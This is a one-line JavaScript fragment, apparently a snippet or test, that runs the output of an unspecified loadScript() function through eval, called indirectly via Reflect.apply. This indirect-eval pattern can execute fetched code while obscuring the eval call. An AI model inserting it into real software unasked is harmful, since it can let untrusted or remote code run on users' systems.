Reflect.apply(eval, undefined, [loadScript()]);
